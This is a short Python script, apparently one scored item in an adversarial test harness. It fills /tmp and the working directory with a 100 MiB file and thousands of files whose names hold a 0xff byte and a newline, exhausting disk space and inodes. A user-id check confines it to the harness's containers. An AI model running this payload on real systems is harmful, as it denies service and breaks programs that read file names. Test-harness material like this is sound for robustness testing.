"""Fill the disk: all of its bytes, then all of its inodes, in names of any length and byte.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"


def _fill(folder):
    try:
        with open(f"{folder}/large", "wb", buffering=0) as stream:
            for _ in range(100):
                if not stream.write(b"x" * (1 << 20)):
                    break
    except OSError:
        pass
    for number in range(10_000):
        try:
            os.close(os.open(os.path.join(os.fsencode(folder), b"\xff\n" + b"n" * 200 + b"%d" % number), os.O_CREAT))
        except OSError:
            break


for _folder in ("/tmp", "."):
    _fill(_folder)
